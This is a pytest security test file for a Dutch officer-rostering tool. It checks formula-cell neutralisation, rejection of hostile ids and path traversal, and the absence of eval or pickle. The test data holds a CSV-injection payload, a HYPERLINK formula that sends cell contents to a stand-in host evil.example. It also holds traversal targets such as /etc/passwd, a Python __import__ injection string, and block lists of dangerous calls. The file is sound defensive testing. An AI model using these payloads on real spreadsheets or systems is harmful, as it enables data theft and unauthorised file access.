"""Security: formula cells neutralised in outputs, hostile ids refused, no path escapes, inputs never evaluated."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest

from planner.safe import cell
from tests._robust_helpers import REPO, WEEK, WIJK_A, WIJK_B, invoke, write_data

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
OFFICERS = (
    "officer_id,name,wijk_code,contract_hours,night_exempt,team\n"
    f'W-01,"{HOSTILE_NAME.replace(chr(34), chr(34) * 2)}",{WIJK_A},36,nee,Team Proef\n'
    f"W-02,@SUM(1+1),{WIJK_B},32,ja,Team Proef\n"
    f"W-03,+31612345678,{WIJK_B},24,nee,Team Proef\n"
    f"W-04,-1+1,{WIJK_A},24,nee,Team Proef\n"
)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", HOSTILE_NAME])
def test_cell_neutralises_formula_prefix(value):
    """safe.cell puts a ' before text that a spreadsheet would run as a formula."""
    assert cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Anna", "W-01", "", 36.0, None, 0])
def test_cell_leaves_plain_values(value):
    assert cell(value) == value


def test_roster_xlsx_has_no_formula_cells(tmp_path):
    """Officer names like =HYPERLINK(...) reach roster.xlsx as text: no cell is a formula or starts with = + - @."""
    from openpyxl import load_workbook

    data = write_data(tmp_path / "data", {"officers.csv": OFFICERS, "absences.csv": None, "wishes.csv": None})
    out = tmp_path / "out"
    result = invoke(["roster", data, "-w", WEEK, "-o", out, "-q", "--time-limit", "10"])
    assert result.exit_code in (0, 1), result.output
    wb = load_workbook(out / "roster.xlsx")
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    seen.append(c.value)
                    assert not c.value.startswith(("=", "+", "-", "@")), (ws.title, c.coordinate, c.value)
    assert "'" + HOSTILE_NAME in seen
    assert "'@SUM(1+1)" in seen


def test_summary_and_csv_hold_no_live_formula(tmp_path):
    """roster.csv holds ids and codes only (ids cannot start with = + - @), never names."""
    data = write_data(tmp_path / "data", {"officers.csv": OFFICERS, "absences.csv": None, "wishes.csv": None})
    out = tmp_path / "out"
    invoke(["roster", data, "-w", WEEK, "-o", out, "-q", "--time-limit", "10"])
    text = (out / "roster.csv").read_text(encoding="utf-8")
    assert "HYPERLINK" not in text and "@SUM" not in text
    for line in text.splitlines():
        for field in line.split(","):
            assert not field.startswith(("=", "+", "@")), line


@pytest.mark.parametrize("oid", ["=1+1", "+1", "-1", "@x", "a|b", "a,b"])
def test_hostile_officer_id_refused(tmp_path, oid):
    """Officer ids starting with = + - @ (or holding | or ,) are refused at input, naming row and column."""
    quoted = '"' + oid + '"'
    off = f"officer_id,name,wijk_code,contract_hours\n{quoted},A,{WIJK_A},36\n"
    result = invoke(["validate", write_data(tmp_path / "d", {"officers.csv": off, "absences.csv": None,
                                                              "wishes.csv": None, "team_demand.csv": None})])
    assert result.exit_code == 2
    assert "officers.csv, row 2, column 'officer_id'" in result.output


@pytest.mark.parametrize("target", ["../../etc/passwd", "/etc/passwd", "sub/../../outside.geojson"])
def test_wijken_path_outside_data_folder_refused(tmp_path, target):
    """[files] wijken may not leave the data folder (relative climb, absolute path)."""
    (tmp_path / "outside.geojson").write_text("{}", encoding="utf-8")
    data = write_data(tmp_path / "d", {"planner.toml": f'[files]\nwijken = "{target}"\n'})
    result = invoke(["validate", data])
    assert result.exit_code == 2
    assert "lies outside the data folder" in result.output


def test_wijken_symlink_outside_data_folder_refused(tmp_path):
    """A symlink inside the folder pointing outside is resolved and refused too."""
    outside = tmp_path / "secret.geojson"
    outside.write_text("{}", encoding="utf-8")
    data = write_data(tmp_path / "d", {"planner.toml": '[files]\nwijken = "link.geojson"\n'})
    (data / "link.geojson").symlink_to(outside)
    result = invoke(["validate", data])
    assert result.exit_code == 2
    assert "lies outside the data folder" in result.output


_FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__"}
_FORBIDDEN_MODULES = {"pickle", "cPickle", "dill", "marshal", "shelve", "joblib"}
_FORBIDDEN_ATTRS = {"read_pickle", "load_pickle", "unsafe_load", "full_load"}


def test_package_never_evaluates_or_unpickles_input():
    """No eval/exec/compile, no pickle/marshal/shelve, no yaml.load or read_pickle, no np.load(allow_pickle=True)."""
    found = []
    for path in sorted((REPO / "planner").rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        for node in ast.walk(tree):
            where = f"{path.relative_to(REPO)}:{getattr(node, 'lineno', 0)}"
            if isinstance(node, ast.Call):
                f = node.func
                if isinstance(f, ast.Name) and f.id in _FORBIDDEN_CALLS:
                    found.append(f"{where} {f.id}()")
                if isinstance(f, ast.Attribute):
                    if f.attr in _FORBIDDEN_ATTRS:
                        found.append(f"{where} .{f.attr}()")
                    if f.attr == "load" and isinstance(f.value, ast.Name) and f.value.id == "yaml":
                        found.append(f"{where} yaml.load()")
                for kw in node.keywords:
                    if kw.arg == "allow_pickle" and not (isinstance(kw.value, ast.Constant) and not kw.value.value):
                        found.append(f"{where} allow_pickle")
            if isinstance(node, ast.Import):
                found += [f"{where} import {a.name}" for a in node.names if a.name.split(".")[0] in _FORBIDDEN_MODULES]
            if isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in _FORBIDDEN_MODULES:
                found.append(f"{where} from {node.module}")
    assert found == [], found


def test_planner_toml_is_data_not_code(tmp_path):
    """A planner.toml that looks like Python is a TOML error, never run."""
    marker = tmp_path / "ran"
    data = write_data(tmp_path / "d", {"planner.toml": f"__import__('pathlib').Path('{marker}').touch()\n"})
    result = invoke(["validate", data])
    assert result.exit_code == 2
    assert "planner.toml: is not valid TOML" in result.output
    assert not marker.exists()
    assert Path(data / "planner.toml").is_file()


def test_pages_are_the_one_way_into_html():
    """Only planner/pages.py makes Jinja2 templates (from package files); nothing renders a string as a template,
    uses Folium/branca (whose second render pass ran names as template code) or escapes HTML by hand, and
    Markup() is only ever built from string literals."""
    found = []
    for path in sorted((REPO / "planner").rglob("*.py")):
        if path.name == "pages.py" and path.parent.name == "planner":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        for node in ast.walk(tree):
            where = f"{path.relative_to(REPO)}:{getattr(node, 'lineno', 0)}"
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
                found += [f"{where} imports {n}" for n in names
                          if n.split(".")[0] in ("jinja2", "folium", "branca", "markupsafe", "html")]
            if isinstance(node, ast.Call):
                f = node.func
                name = f.attr if isinstance(f, ast.Attribute) else getattr(f, "id", "")
                if name in ("from_string", "Template", "Environment"):
                    found.append(f"{where} {name}()")
                if name == "Markup" and not all(isinstance(a, ast.Constant) for a in node.args):
                    found.append(f"{where} Markup() of a non-literal")
    assert found == [], found
